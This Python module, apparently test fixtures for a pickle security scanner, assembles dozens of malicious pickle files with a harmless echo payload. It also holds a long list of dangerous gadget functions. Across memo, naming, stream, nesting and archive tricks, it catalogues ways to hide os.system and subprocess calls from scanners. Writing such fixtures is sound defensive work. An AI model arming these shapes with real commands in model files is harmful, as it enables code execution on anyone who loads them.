"""Attack shapes, assembled opcode by opcode. Their payloads are harmless and nothing here is ever loaded."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable

COMMAND = "echo assay-test"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def blob(raw: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(raw)) + raw


def glob(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def stack_glob(module: str, name: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(name) + b"\x93"


def call(function: bytes, *args: bytes) -> bytes:
    """REDUCE of a function with arguments."""
    return function + b"(" + b"".join(args) + b"tR"


def proto(body: bytes, version: int = 4) -> bytes:
    """PROTO, body, STOP."""
    return bytes([0x80, version]) + body + b"."


SYSTEM = call(stack_glob("os", "system"), text(COMMAND))
PLAIN = proto(SYSTEM)
BENIGN = pickle.dumps({"weights": [1.0, 2.0]}, 4)


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # a duplicate name is what one shape is about
                archive.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def _tar(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def npy_objects(payload: bytes) -> bytes:
    """An npy file with object dtype, whose data is a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def joblib_array(after: bytes, *, raw: bytes = bytes(16), shape: int = 2, code: str = "f8") -> bytes:
    """A list of an array in joblib's layout (padding, raw bytes) and what `after` pushes."""
    kind = (
        call(glob("numpy", "dtype"), text(code), b"\x89", b"\x88")
        + b"(K\x03"
        + text("<")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )
    state = b"}(" + text("subclass") + glob("numpy", "ndarray") + text("shape") + b"K" + bytes([shape]) + b"\x85"
    state += text("order") + text("C") + text("dtype") + kind + text("numpy_array_alignment_bytes") + b"K\x10u"
    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    return b"\x80\x04](" + wrapper + state + b"b" + b"\x03\xff\xff\xff" + raw + after + b"e."


def _memo_shapes() -> dict[str, bytes]:
    os_text, system_text, safe_text = text("os"), text("system"), text("builtins")
    return {
        "memo-overwritten": proto(
            safe_text + b"q\x000" + os_text + b"q\x000" + b"h\x00" + system_text + b"\x93" + text(COMMAND) + b"\x85R"
        ),
        "memo-put-after-pop": proto(
            os_text + text("x") + b"0q\x010" + b"h\x01" + system_text + b"\x93" + text(COMMAND) + b"\x85R"
        ),
        "memo-memoize-counts-holes": proto(
            b"Nr\x07\x00\x00\x000" + os_text + b"\x940" + b"h\x01" + system_text + b"\x93" + text(COMMAND) + b"\x85R"
        ),
        "memo-text-index": proto(
            os_text + b"p42\n0" + system_text + b"p43\n0" + b"g42\ng43\n\x93" + text(COMMAND) + b"\x85R"
        ),
        "memo-of-the-function": proto(stack_glob("os", "system") + b"q\x000N0h\x00" + text(COMMAND) + b"\x85R"),
        "memo-sparse-then-dense": proto(
            os_text + b"q\x010" + b"Nq\x000" + b"h\x01" + system_text + b"\x93" + text(COMMAND) + b"\x85R"
        ),
        "dup": proto(os_text + b"2" + system_text + b"\x93" + text(COMMAND) + b"\x85R"),
        "pop-mark": proto(b"(NNN1" + SYSTEM),
        "pop-takes-a-mark": proto(b"(0" + SYSTEM),
        "args-in-the-memo": proto(text(COMMAND) + b"\x85q\x050" + stack_glob("os", "system") + b"h\x05R"),
    }


def _call_shapes() -> dict[str, bytes]:
    maker = glob("posix", "system")
    return {
        "reduce": PLAIN,
        "reduce-protocol-0": f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode(),
        "reduce-unicode-line": f"cos\nsystem\n(V{COMMAND}\ntR.".encode(),
        "inst": f"(S'{COMMAND}'\nios\nsystem\n.".encode(),
        "obj": b"(" + glob("os", "system") + f"S'{COMMAND}'\no.".encode(),
        "newobj": proto(stack_glob("subprocess", "Popen") + text(COMMAND) + b"\x85\x81"),
        "newobj-ex": proto(stack_glob("subprocess", "Popen") + text(COMMAND) + b"\x85}" + text("shell") + b"\x88s\x92"),
        "only-imported": proto(glob("os", "system")),
        "python-2-names": f"c__builtin__\neval\n(S'{COMMAND}'\ntR.".encode(),
        "python-2-commands": b"ccommands\ngetoutput\n(S'x'\ntR.",
        "in-a-list": proto(b"](K\x01" + SYSTEM + b"e"),
        "in-a-dict-value": proto(b"}(" + text("k") + SYSTEM + b"u"),
        "after-a-frame": b"\x80\x04\x95" + struct.pack("<Q", 1) + b"N0" + SYSTEM + b".",
        "frame-in-a-frame": b"\x80\x04\x95" + struct.pack("<Q", 40) + b"\x95" + struct.pack("<Q", 2) + SYSTEM + b".",
        "state-on-a-class": proto(
            glob("collections", "OrderedDict") + b"}" + text("__setstate__") + glob("builtins", "list") + b"sb"
        ),
        "items-on-a-module-dict": proto(glob("collections", "OrderedDict") + text("k") + text("v") + b"s"),
        "build-with-gadget": proto(glob("collections", "Counter") + b")\x81}" + text("hook") + maker + b"sb"),
        "result-called": proto(call(call(glob("operator", "attrgetter"), text("system")), glob("os", "path"))),
        "safe-result-called": proto(call(call(glob("collections", "OrderedDict")), text("x"))),
        "getattr-chain": proto(
            call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), text("os")), text("system"))
        ),
        "getattr-of-class": proto(
            call(call(glob("builtins", "getattr"), glob("builtins", "str"), text("__subclasses__")))
        ),
        "ufunc-getter": proto(
            call(call(glob("numpy._core", "_ufunc_reconstruct"), text("os"), text("system")), text(COMMAND))
        ),
        "partial": proto(call(glob("functools", "partial"), glob("os", "system"), text(COMMAND))),
        "reduce-function": proto(call(glob("functools", "reduce"), glob("os", "system"), b"](" + text(COMMAND) + b"e")),
        "map": proto(call(glob("builtins", "map"), glob("os", "system"), b"](" + text(COMMAND) + b"e")),
        "frame-eval": proto(call(glob("pandas", "DataFrame.eval"), call(glob("pandas", "DataFrame")), text("1"))),
        "persistent-called": b"\x80\x02Pany\n" + text("x") + b"\x85R.",
    }


def _name_shapes() -> dict[str, bytes]:
    joined = call(stack_glob("builtins", "str"), text("os"))
    return {
        "dotted": proto(call(stack_glob("os", "path.os.system"), text(COMMAND))),
        "dotted-through-safe": proto(call(stack_glob("sklearn.base", "np.f2py.os.system"), text(COMMAND))),
        "dotted-dunder": proto(stack_glob("builtins", "object.__subclasses__") + b")R"),
        "dotted-mixed": proto(call(stack_glob("collections", "abc.sys.modules.get"), text("os"))),
        "made-at-load-time": proto(joined + text("system") + b"\x93" + text(COMMAND) + b"\x85R"),
        "name-made-at-load-time": proto(text("os") + joined + b"\x93" + text(COMMAND) + b"\x85R"),
        "name-from-persistent": proto(text("os") + b"NQ\x93"),
        "long-name": proto(stack_glob("x" * 300, "y") + b")R"),
        "ext1": proto(b"\x82\x01" + text("x") + b"\x85R"),
        "ext2": proto(b"\x83\x01\x01" + text("x") + b"\x85R"),
        "ext4": proto(b"\x84\x01\x01\x01\x00" + text("x") + b"\x85R"),
        "re-exported": proto(call(stack_glob("thirdparty.compat", "check_output"), text(COMMAND))),
        "re-exported-in-sklearn": proto(call(stack_glob("sklearn.utils.x", "Client"), text("h"))),
    }


_GADGETS = """
os.popen posix.system nt.system subprocess.call subprocess.check_output pty.spawn builtins.exec builtins.compile
builtins.open builtins.__import__ runpy.run_path importlib.import_module code.InteractiveInterpreter pdb.run
timeit.timeit cProfile.run profile.run linecache.getline pkgutil.resolve_name imaplib.IMAP4_stream
http.client.HTTPConnection urllib.request.urlopen webbrowser.open asyncio.create_subprocess_shell
multiprocessing.util.spawnv_passfds numpy.testing._private.utils.runstring torch.hub.load torch.load joblib.load
dill.loads cloudpickle.loads cloudpickle.cloudpickle._make_function logging.config.dictConfig site.main
sysconfig.get_path pip.main ctypes.CDLL marshal.loads types.FunctionType types.CodeType shutil.rmtree
socket.create_connection uuid._get_command_stdout uuid.getnode operator.methodcaller _operator.attrgetter
functools.partial numpy.load pandas.read_pickle pandas.eval sys.setprofile numpy.f2py.compile
numpy.distutils.exec_command.exec_command doctest.run_docstring_examples bdb.Bdb.run trace.Trace.run
unittest.mock._importer zipimport.zipimporter shelve.open sqlite3.connect threading.Timer atexit.register
signal.signal concurrent.futures.ThreadPoolExecutor test.support.script_helper.assert_python_ok
distutils.spawn.spawn setuptools.setup pydoc.pipepager idlelib.pyshell.main torch._inductor.codecache.compile_file
torch.jit.unsupported_tensor_ops.execWrapper
"""
GADGETS = _GADGETS.split()


def _stream_shapes() -> dict[str, bytes]:
    return {
        "second-pickle": BENIGN + PLAIN,
        "fourth-pickle": BENIGN * 3 + PLAIN,
        "second-after-junk": BENIGN + b"\x00\xff junk \x01" * 50 + PLAIN,
        "second-text-after-junk": BENIGN + b"\xff\xfe\x00" + f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode(),
        "second-inst-after-junk": BENIGN + b"\xff\xfe\x00" + f"(S'{COMMAND}'\nios\nsystem\n.".encode(),
        "second-headless-after-junk": BENIGN + b"\xff\xfe\x00" + SYSTEM + b".",
        "far-after-junk": BENIGN + b"\xff" * 3_000_000 + PLAIN,
        "torn-after-the-call": proto(SYSTEM)[:-1],
        "torn-by-a-bad-opcode": proto(SYSTEM)[:-1] + b"\xff\xff",
        "after-a-torn-pickle": b"\x80\x04\xff" + PLAIN,
        "headless": SYSTEM + b".",
    }


def _nested_shapes() -> dict[str, bytes]:
    inner = proto(SYSTEM)
    deep = inner
    for _ in range(3):
        deep = proto(call(glob("pickle", "loads"), blob(deep)))
    large = proto(b"N0" * 50_000 + SYSTEM)
    return {
        **{
            f"nested-{module}": proto(call(glob(module, "loads"), blob(inner)))
            for module in ("pickle", "_pickle", "dill", "cloudpickle")
        },
        "nested-deep": deep,
        "nested-large": proto(call(glob("pickle", "loads"), blob(large))),
        "nested-in-bytesio": proto(call(glob("joblib", "load"), call(glob("io", "BytesIO"), blob(inner)))),
        "nested-encoded": proto(
            call(glob("pickle", "loads"), call(glob("_codecs", "encode"), text("cos\nsystem\n(tR."), text("latin1"))), 2
        ),
        "nested-torch-storage": proto(call(glob("torch.storage", "_load_from_bytes"), blob(inner))),
    }


def _container_shapes() -> dict[str, bytes]:
    array = npy_objects(PLAIN)
    return {
        "zlib": zlib.compress(PLAIN),
        "gzip": gzip.compress(PLAIN),
        "gzip-members": gzip.compress(BENIGN) + gzip.compress(PLAIN),
        "bz2": bz2.compress(PLAIN),
        "xz": lzma.compress(PLAIN),
        "lzma": lzma.compress(PLAIN, format=lzma.FORMAT_ALONE),
        "torch-zip": _zip([("m/data.pkl", PLAIN), ("m/data/0", bytes(64)), ("m/version", b"3\n")]),
        "zip-odd-extension": _zip([("weights.txt", PLAIN)]),
        "zip-duplicate": _zip([("data.pkl", PLAIN), ("data.pkl", BENIGN)]),
        "zip-in-zip": _zip([("inner.zip", _zip([("a.pkl", PLAIN)]))]),
        "zip-with-prefix": b"junk" * 10 + _zip([("a/data.pkl", PLAIN)]),
        "pickle-then-zip": BENIGN + _zip([("a/data.pkl", PLAIN)]),
        "tar": _tar("pickle", PLAIN),
        "tar-gz": gzip.compress(_tar("x/model.pkl", PLAIN)),
        "npy": array,
        "npz": _zip([("arr_0.npy", array)]),
        "joblib-array-then-call": joblib_array(SYSTEM),
        "joblib-array-that-is-opcodes": joblib_array(b"", raw=b"", shape=0).replace(
            b"\x03\xff\xff\xff", b"\x00" + b"0" + SYSTEM + b"."
        ),
        "joblib-object-array": joblib_array(b"", code="O8", raw=b"").replace(b"\x03\xff\xff\xff", PLAIN),
        "joblib-compressed": zlib.compress(joblib_array(SYSTEM)),
    }


def shapes() -> dict[str, bytes]:
    """All attack files by name."""
    families: list[Callable[[], dict[str, bytes]]] = [
        _memo_shapes, _call_shapes, _name_shapes, _stream_shapes, _nested_shapes, _container_shapes,
    ]  # fmt: skip
    found = {name: data for family in families for name, data in family().items()}
    for gadget in GADGETS:
        module, _, name = gadget.rpartition(".")
        found[f"gadget-{gadget}"] = proto(call(stack_glob(module, name), text(COMMAND)))
    return found
